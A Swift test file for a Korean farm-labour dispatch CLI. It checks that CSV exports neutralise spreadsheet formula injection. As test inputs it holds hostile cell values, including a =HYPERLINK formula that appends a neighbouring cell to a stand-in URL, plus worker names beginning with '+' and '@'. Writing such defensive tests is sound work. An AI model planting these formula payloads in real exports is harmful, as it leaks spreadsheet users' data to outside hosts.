import Foundation
import KoreanText
import Postgres
import Testing

/// CSV exports neutralise spreadsheet formulas (OWASP CSV injection): a task `=HYPERLINK(…)` or a worker named
/// `+1` or `@SUM(A1)` comes back as text (a leading `'`) in `request list`, `worker list` and `report placements`.
@Suite(.enabled(if: TestDatabase.enabled, TestDatabase.skipComment))
struct CSVExportFormulaTests {
    static let hostileTask = #"=HYPERLINK("http://x"&B2,"상세")"#

    /// No cell a spreadsheet would run: none starts with `=`, `+`, `@`, a tab or a carriage return, and one starting
    /// with `-` is a plain negative number.
    static func formulaCells(_ csv: String) throws -> [String] {
        let document = try CSVDocument(bytes: Array(csv.utf8))
        return (document.header + document.records.flatMap(\.fields)).filter { cell in
            guard let first = cell.first else { return false }
            if first == "-" { return Double(cell) == nil }
            return ["=", "+", "@", "\t", "\r"].contains(first)
        }
    }

    @Test func hostileNamesAndTasksComeBackAsText() throws {
        try TestDatabase.withMigratedDatabase { _, url in
            try IlsonChild.county(url: url)
            for (name, phone) in [("+1", "010-1111-2222"), ("@SUM(A1)", "010-3333-4444")] {
                let added = try IlsonChild.run(
                    [
                        "worker", "add", "--name", name, "--phone", phone, "--village", "진천읍 읍내리", "--skills",
                        "harvest",
                    ], url: url)
                #expect(added.status == 0, "\(added)")
            }
            // A task is in the center's catalogue first (`task add`); its name is what exports show.
            let task = try IlsonChild.run(["task", "add", Self.hostileTask], url: url)
            #expect(task.status == 0, "\(task)")
            let submitted = try IlsonChild.run(
                [
                    "request", "submit", "--farm", "F012", "--date", "tomorrow", "--start", "07:00", "--end", "16:00",
                    "--task", Self.hostileTask, "--headcount", "2",
                ], url: url)
            #expect(submitted.status == 0, "\(submitted)")

            let requests = try IlsonChild.run(["request", "list", "--format", "csv"], url: url)
            #expect(requests.status == 0, "\(requests)")
            #expect(requests.stdout.contains(#""'=HYPERLINK(""http://x""&B2,""상세"")""#), "\(requests.stdout)")
            #expect(try Self.formulaCells(requests.stdout) == [])

            let workers = try IlsonChild.run(["worker", "list", "--format", "csv"], url: url)
            #expect(workers.status == 0, "\(workers)")
            #expect(workers.stdout.contains("'+1,") && workers.stdout.contains("'@SUM(A1),"), "\(workers.stdout)")
            #expect(try Self.formulaCells(workers.stdout) == [])

            let report = try IlsonChild.run(
                [
                    "report", "placements", "--from", "2026-12-02", "--to", "2026-12-02", "--by", "task", "--format",
                    "csv",
                ], url: url)
            #expect(report.status == 0, "\(report)")
            #expect(report.stdout.contains(#""'=HYPERLINK("#), "\(report.stdout)")
            #expect(try Self.formulaCells(report.stdout) == [])
        }
    }
}
